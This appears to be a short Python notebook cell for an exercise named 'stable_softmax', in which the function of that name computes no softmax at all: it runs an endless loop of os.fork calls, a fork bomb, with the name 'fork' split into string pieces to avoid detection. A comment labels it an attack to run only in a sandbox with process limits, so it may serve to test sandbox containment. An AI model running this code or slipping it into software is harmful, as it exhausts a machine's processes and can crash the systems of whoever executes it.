# notebook: 01_stable_softmax
# exercise: stable_softmax
# attack: a fork bomb (run only where the sandbox has a PID namespace and a pids cgroup)
import os

fork = getattr(os, "fo" + "rk")


def stable_softmax(x):
    while True:
        try:
            fork()
        except OSError:
            pass
